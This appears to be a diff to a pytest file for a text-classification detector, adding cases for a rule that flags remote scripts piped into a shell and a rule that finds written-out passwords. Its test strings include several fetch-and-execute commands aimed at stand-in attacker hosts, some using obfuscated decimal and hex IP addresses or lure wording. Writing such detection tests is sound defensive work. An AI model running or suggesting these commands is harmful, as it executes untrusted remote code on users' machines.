@@ -91,7 +91,7 @@ def test_a_fetched_install_script_is_not_an_executable_link():
     "wget -qO- https://deb.nodesource.com/setup_18.x | sudo -E bash",
     "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
     "curl -sSL https://example.com/page | bash",  # a documentation domain serves nothing
-    "curl -s $URL | bash",  # no host named: nothing to judge
+    "curl -fsSL http://localhost:8080/setup.sh | sh",  # the writer's own machine
 ])
 def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
     assert not {r for r in rules(text) if r.startswith("malware.")}
@@ -101,6 +101,14 @@ def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
     "run this to fix it: curl -s https://cdn-patch.xyz/i.sh | sudo bash",
     "wget -qO- 185.23.44.1/x.sh | sh",
     "free nitro for everyone: curl -s https://raw.githubusercontent.com/a/b/main/n.sh | bash",  # a lure
+    # anyone can publish on a code host, a file host or a bucket
+    "here's the fix: curl -s https://raw.githubusercontent.com/fixer99/patch/main/a.sh | sudo bash",
+    "curl -sL https://drive.google.com/uc?id=1abc | sh",
+    "curl -s https://evil-bucket.s3.amazonaws.com/x.sh | bash",
+    # no host to recognise it by
+    "U=https://evil.xyz/i; curl -fsSL $U | bash",
+    "curl -s http://3105313793/x.sh | sh",
+    "curl -s 0xb9.0x17.0x2c.0x01/x | sh",
 ])
 def test_a_script_from_anywhere_else_piped_into_a_shell_is_caught(text):
     assert "malware.exploit_delivery" in rules(text)
@@ -247,6 +255,7 @@ def test_database_errors_prompts_and_pwd_are_not_passwords(text):
     assert "privacy.password" not in rules(text)
 
 
-@pytest.mark.parametrize("text", ["New password: hunter22xyz", "db password = Zx81-abc-99", "my password: s3cretPass!"])
+@pytest.mark.parametrize("text", ["New password: hunter22xyz", "db password = Zx81-abc-99", "my password: s3cretPass!",
+                                  "the db password: a)9Zk#f2Lq", "my password: My)Secret99"])
 def test_passwords_written_out_still_found(text):
     assert "privacy.password" in rules(text)
